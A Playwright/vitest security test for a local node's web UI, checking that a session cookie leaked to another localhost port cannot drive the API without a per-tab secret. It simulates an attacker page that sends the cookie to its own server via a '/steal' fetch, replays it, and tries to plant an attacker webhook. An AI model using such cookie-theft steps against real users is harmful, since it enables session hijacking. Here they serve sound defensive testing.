/**
 * The view's session against a page on another port of 127.0.0.1, in headless
 * chromium. Browsers scope cookies by host, not port, so the session cookie
 * reaches any local server, and SameSite=Strict does not stop it (another
 * port of 127.0.0.1 is the same site). A stand-in attacker serves a page on
 * another port that collects the cookie and fires blind cookie-carrying
 * requests at the API. The cookie must drive nothing: every API call also
 * needs the session's secret, which the page keeps in sessionStorage (per
 * origin, so per port) and which never reaches any server in a URL. The
 * user's own tab keeps working, across a reload too; a new tab without the
 * secret says how to get back in; the Log out button ends the session.
 */
import type { IncomingMessage } from 'node:http'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Browser } from '../scripts/lib/chromium.ts'
import type { ApiServer } from '../src/api/server.ts'
import type { MeshNode } from '../src/node.ts'
import { uiSessionCookie } from '../src/ui/constants.ts'
import { raw } from './api-helpers.ts'
import { startMesh, stopAll, until } from './helpers.ts'
import {
  closeView, openView, PAGE_WAIT_MS, SECRET_KEY, serveOtherPort, SETUP_TIMEOUT_MS, type OtherPort, type View
} from './fixtures/view.ts'

describe('the view\'s session cookie, sent by the browser to another port of 127.0.0.1, drives nothing', () => {
  let nodes: MeshNode[]
  let view: View | undefined
  let evil: OtherPort | undefined
  let api: ApiServer
  let token = ''
  let evilUrl = ''
  let browser: Browser
  let page: Page
  /** Every request the attacker's server saw: its URL and all its headers. */
  const seen: Array<{ url: string, headers: IncomingMessage['headers'] }> = []

  beforeAll(async () => {
    nodes = await startMesh(1)
    view = await openView(nodes[0]!)
    api = view.api
    token = view.token
    browser = view.browser
    page = view.page
    evil = await serveOtherPort((req, res) => {
      seen.push({ url: req.url ?? '', headers: req.headers })
      res.writeHead(req.url === '/land' ? 200 : 204, { 'content-type': 'text/html' })
      res.end(req.url === '/land' ? '<!doctype html><title>elsewhere</title>' : '')
    })
    evilUrl = evil.url
  }, SETUP_TIMEOUT_MS)

  afterAll(async () => {
    await closeView(view)
    await evil?.close()
    await stopAll(nodes)
  })

  it('logs in: the secret moves from the URL fragment to sessionStorage and the address bar is clean', async () => {
    await view!.logIn(PAGE_WAIT_MS)
    expect(page.url()).toBe(`${api.url}/ui`)
    const secret = await page.evaluate((k) => sessionStorage.getItem(k), SECRET_KEY)
    expect(secret).toMatch(/^[A-Za-z0-9_-]{40,}$/)
  })

  it('a page on another port gets the cookie but not the secret, and neither the cookie nor blind requests drive the node', async () => {
    const secret = (await page.evaluate((k) => sessionStorage.getItem(k), SECRET_KEY))!
    const cookieName = uiSessionCookie(Number(new URL(api.url).port))
    const attacker = await browser.context.newPage()
    await attacker.goto(`${evilUrl}/land`)
    // the attacker's own origin: no secret in its storage; a same-origin fetch carries the node's cookie to it
    expect(await attacker.evaluate(() => sessionStorage.length)).toBe(0)
    await attacker.evaluate(async () => { await fetch('/steal', { credentials: 'include' }) })
    const steal = seen.find(s => s.url === '/steal')
    const cookie = steal?.headers.cookie ?? ''
    expect(cookie).toContain(`${cookieName}=`)
    // the secret reached the attacker nowhere: not in a URL, a cookie or any header
    expect(JSON.stringify(seen)).not.toContain(secret)

    // the stolen cookie, with any x-aap-ui value, is refused for reads and changes
    const stolen: Array<Record<string, string>> = [{ cookie }, { cookie, 'x-aap-ui': '1' }]
    for (const headers of stolen) {
      expect((await raw(`${api.url}/v1/runs`, { headers })).status).toBe(401)
      const put = await raw(`${api.url}/v1/card`, {
        method: 'PUT', headers, body: JSON.stringify({ card: { name: 'owned' }, webhook: `${evilUrl}/hook` })
      })
      expect(put.status).toBe(401)
    }
    expect((await raw(`${api.url}/v1/card`, { token })).body).toMatchObject({ card: null, webhook: null })

    // blind cookie-carrying requests from the attacker's page: an event stream is not opened
    const opaque = await attacker.evaluate(async (url) => {
      const res = await fetch(`${url}/v1/events/task-evil/stream?history=false`, { mode: 'no-cors', credentials: 'include' })
      return res.type
    }, api.url)
    expect(opaque).toBe('opaque')
    expect(api.stats().streams).toBe(0)
    expect(api.stats().eventSubscriptions).toBe(0)
    await attacker.close()

    // the user's own tab still works
    await page.reload()
    await page.waitForSelector('body[data-ready="true"]', { timeout: PAGE_WAIT_MS })
    expect(await page.evaluate((k) => sessionStorage.getItem(k), SECRET_KEY)).toBe(secret)
  })

  it('a new tab without the secret says how to open the view again', async () => {
    const tab = await browser.context.newPage()
    const res = await tab.goto(`${api.url}/ui`)
    expect(res?.status()).toBe(200)
    await tab.waitForSelector('body[data-locked="true"]', { timeout: PAGE_WAIT_MS })
    expect(await tab.textContent('#notice')).toContain('aap-mesh ui')
    expect(await tab.isVisible('main')).toBe(false)
    await tab.close()
  })

  it('the event stream is read with the secret (live), and Log out ends the session on the node', async () => {
    await page.goto(`${api.url}/ui#task/task-live`)
    await page.waitForSelector('#live:not(.off)', { timeout: PAGE_WAIT_MS })
    await until(() => api.stats().eventSubscriptions === 1, 'the page\'s event stream')
    const secret = (await page.evaluate((k) => sessionStorage.getItem(k), SECRET_KEY))!
    const cookie = (await browser.context.cookies(api.url)).map(c => `${c.name}=${c.value}`).join('; ')
    expect((await raw(`${api.url}/v1/node`, { headers: { cookie, 'x-aap-ui': secret } })).status).toBe(200)

    await page.click('#logout')
    await page.waitForSelector('body[data-locked="true"]', { timeout: PAGE_WAIT_MS })
    expect(await page.textContent('#notice')).toContain('aap-mesh ui')
    expect(await page.evaluate((k) => sessionStorage.getItem(k), SECRET_KEY)).toBeNull()
    // the page let go of its stream, and the session is gone on the node, not just in the tab
    await until(() => api.stats().streams === 0, 'the stream closed')
    expect((await raw(`${api.url}/v1/node`, { headers: { cookie, 'x-aap-ui': secret } })).status).toBe(401)
    expect((await raw(`${api.url}/ui`, { headers: { cookie } })).status).toBe(401)
  })
})
